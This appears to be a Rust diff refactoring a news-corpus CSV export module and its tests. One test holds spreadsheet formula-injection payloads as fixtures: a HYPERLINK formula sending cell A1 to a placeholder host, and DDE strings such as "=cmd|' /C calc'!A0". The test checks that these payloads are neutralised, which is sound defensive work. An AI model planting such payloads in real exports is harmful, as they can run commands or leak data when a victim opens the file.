@@ -38,7 +38,7 @@ pub fn iso_label(value: &str) -> String {
         10 => Precision::Day,
         _ => Precision::Minute,
     };
-    date_label(&DateInfo { value: value.to_owned(), precision, source: crate::model::Source::Inferred, evidence: String::new() })
+    date_label(&DateInfo { value: value.into(), precision, source: crate::model::Source::Inferred, evidence: Default::default() })
 }
 
 /// One bar of the date histogram: a month, or a year when the corpus spans many years.
@@ -302,9 +302,9 @@ impl ExportRow {
             title: a.title.clone(),
             outlet: a.outlet_name().unwrap_or_default().to_owned(),
             origin: a.origin_name().unwrap_or_default().to_owned(),
-            date: a.date.as_ref().map(|d| d.value.clone()).unwrap_or_default(),
+            date: a.date.as_ref().map(|d| d.value.to_string()).unwrap_or_default(),
             date_precision: a.date.as_ref().map(|d| format!("{:?}", d.precision).to_lowercase()).unwrap_or_default(),
-            authors: a.authors.clone(),
+            authors: a.authors.iter().map(|s| s.to_string()).collect(),
             actors: actors.iter().map(|x| x.corpus_name().to_owned()).collect(),
             file: a.file.clone(),
             words: a.body.iter().map(|p| p.split_whitespace().count()).sum(),
@@ -372,7 +372,7 @@ mod tests {
     use crate::model::Source;
 
     fn date(v: &str, p: Precision) -> DateInfo {
-        DateInfo { value: v.into(), precision: p, source: Source::Text, evidence: String::new() }
+        DateInfo { value: v.into(), precision: p, source: Source::Text, evidence: Default::default() }
     }
 
     #[test]
@@ -495,8 +495,8 @@ mod tests {
     fn csv_neutralises_formula_cells() {
         use crate::model::{ArticleActor, Attributed};
         let mut a = Article::new(7, "@evil.txt", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")");
-        a.outlet = Some(Attributed { name: "+1 Daily".into(), source: Source::Manifest, evidence: String::new() });
-        a.origin = Some(Attributed { name: "\tTab Agency".into(), source: Source::Manifest, evidence: String::new() });
+        a.outlet = Some(Attributed { name: "+1 Daily".into(), source: Source::Manifest, evidence: Default::default() });
+        a.origin = Some(Attributed { name: "\tTab Agency".into(), source: Source::Manifest, evidence: Default::default() });
         a.authors = vec!["-2+3 Writer".into(), "=cmd|' /C calc'!A0".into()];
         a.actors = vec![ArticleActor::new(0, "@SUM(1+1)*cmd|' /C calc'!A0", ActorType::Person)];
         let mut b = Article::new(8, "b.txt", "\r=1+1, and a\nline");
